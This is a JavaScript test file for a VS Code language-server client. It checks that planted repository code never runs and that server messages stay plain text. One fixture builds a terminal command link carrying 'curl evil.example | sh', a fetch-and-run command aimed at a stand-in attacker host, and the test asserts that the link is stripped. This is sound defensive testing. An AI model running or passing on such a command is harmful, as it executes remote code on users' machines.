// How the client starts the server when the workspace is a cloned repository: nothing the
// repository commits may run (its own `pi_lsp/` package, a `pi-lsp` script found through a
// relative PATH entry), and what the server shows as a notification stays text.
"use strict";
require("../testlib/register-vscode-stub");
const { test, beforeEach, afterEach } = require("node:test");
const assert = require("node:assert/strict");
const fs = require("node:fs");
const path = require("node:path");
const vscode = require("vscode");
const ext = require("../out/extension.js");
const { serverCommand, makeWorkspace, useEnv, eventually } = require("../testlib/server");

const { rec, links, setConfig } = vscode.__test;
const LINK = "[Continue](command:workbench.action.terminal.sendSequence?" +
  encodeURIComponent(JSON.stringify({ text: "curl evil.example | sh\n" })) + ")";

// A language server in a few lines: writes its working directory to argv[2], answers
// initialize, then says something with a link in it, as the server quotes a session file's path.
const FAKE_SERVER = `
const fs = require("node:fs");
fs.writeFileSync(process.argv[2], process.cwd());
let buf = Buffer.alloc(0);
const send = (m) => { const b = Buffer.from(JSON.stringify({ jsonrpc: "2.0", ...m })); process.stdout.write("Content-Length: " + b.length + "\\r\\n\\r\\n"); process.stdout.write(b); };
process.stdin.on("data", (d) => {
  buf = Buffer.concat([buf, d]);
  for (;;) {
    const end = buf.indexOf("\\r\\n\\r\\n");
    if (end < 0) return;
    const len = Number(/Content-Length: (\\d+)/i.exec(buf.slice(0, end).toString())[1]);
    if (buf.length < end + 4 + len) return;
    const msg = JSON.parse(buf.slice(end + 4, end + 4 + len).toString());
    buf = buf.slice(end + 4 + len);
    if (msg.method === "initialize") send({ id: msg.id, result: { capabilities: {} } });
    else if (msg.method === "initialized") send({ method: "window/showMessage", params: { type: 2, message: process.argv[3] } });
    else if (msg.method === "shutdown") send({ id: msg.id, result: null });
    else if (msg.method === "exit") process.exit(0);
  }
});
`;

let ws, restoreEnv, pi;

beforeEach(() => {
  ws = makeWorkspace();
  restoreEnv = useEnv(ws.env);
  vscode.workspace.workspaceFolders = [{ uri: vscode.Uri.file(ws.folder), name: "workspace", index: 0 }];
  setConfig("piLsp.command", []);
  setConfig("piLsp.pythonPath", "");
  rec.messages.length = 0;
});

afterEach(async () => {
  await pi?.close();
  pi?.dispose();
  pi = undefined;
  restoreEnv?.();
  ws?.cleanup();
});

const outside = (dir, folder) => path.relative(fs.realpathSync(folder), fs.realpathSync(dir)).startsWith("..");

test("the server runs outside the workspace, and its window/showMessage is shown as plain text", async () => {
  const fake = path.join(ws.root, "fake-server.js");
  const cwdFile = path.join(ws.root, "server-cwd");
  fs.writeFileSync(fake, FAKE_SERVER);
  setConfig("piLsp.command", [process.execPath, fake, cwdFile, `pi-lsp: ${LINK}.jsonl was replaced by another program`]);
  pi = new ext.PiClient({ apiKey: async () => undefined });
  await pi.start();
  const cwd = fs.readFileSync(cwdFile, "utf8");
  assert.ok(outside(cwd, ws.folder), `the server runs in ${cwd}, inside the workspace ${ws.folder}`);
  const shown = await eventually(() => rec.messages.find((m) => m.message.includes("was replaced")), "the server's message");
  assert.equal(shown.kind, "warning");
  assert.match(shown.message, /sendSequence/, "the path is still named");
  assert.deepEqual(links(shown.message), []);
});

test("piLsp.pythonPath runs our pi_lsp, never the repository's own pi_lsp/ package", async (t) => {
  const { command, args } = serverCommand();
  if (!args.includes("-m")) return t.skip("PI_SERVER is not a Python -m command");
  const marker = path.join(ws.root, "planted-package-ran");
  fs.mkdirSync(path.join(ws.folder, "pi_lsp"));
  fs.writeFileSync(path.join(ws.folder, "pi_lsp", "__init__.py"), `open(${JSON.stringify(marker)}, "w").close()\n`);
  setConfig("piLsp.pythonPath", command);
  pi = new ext.PiClient({ apiKey: async () => undefined });
  await pi.start();
  const { sessions } = await pi.call("pi.listSessions", {});
  assert.equal(sessions.length, 1, "the real server answers for the workspace");
  assert.equal(fs.existsSync(marker), false, "the repository's pi_lsp/__init__.py ran");
});

test("the default `pi-lsp` is not found in the workspace through a relative PATH entry", async () => {
  const marker = path.join(ws.root, "planted-script-ran");
  const script = path.join(ws.folder, "pi-lsp");
  fs.writeFileSync(script, `#!/bin/sh\n: > ${JSON.stringify(marker)}\nexit 1\n`);
  fs.chmodSync(script, 0o755);
  process.env.PATH = `.${path.delimiter}${process.env.PATH}`;
  pi = new ext.PiClient({ apiKey: async () => undefined });
  await pi.start().catch(() => undefined); // no pi-lsp on PATH here: it may well not start
  assert.equal(fs.existsSync(marker), false, "the workspace's pi-lsp script ran");
});

test("a server that stops before it is ready fails the start once, with the command and its last stderr line", async () => {
  // It was started four more times by the library, each with three error messages naming
  // neither the command nor the cause; the start then failed with "Pending response rejected".
  const spawns = path.join(ws.root, "spawns");
  const script = `require("fs").appendFileSync(${JSON.stringify(spawns)}, "x"); console.error("Traceback\\nImportError: no pi_lsp here"); process.exit(1)`;
  setConfig("piLsp.command", [process.execPath, "-e", script]);
  pi = new ext.PiClient({ apiKey: async () => undefined });
  await assert.rejects(pi.start(), {
    message: `\`${process.execPath} -e ${script}\` exited with code 1 before it was ready: ImportError: no pi_lsp here`,
  });
  assert.equal(fs.readFileSync(spawns, "utf8"), "x", "started once");
  assert.deepEqual(rec.messages, [], "the start's caller says it, nobody else");
});

test("without a workspace folder the server is not started (it would take its cwd as the workspace)", async () => {
  vscode.workspace.workspaceFolders = undefined;
  pi = new ext.PiClient({ apiKey: async () => undefined });
  await assert.rejects(pi.start(), /no folder is open/);
});
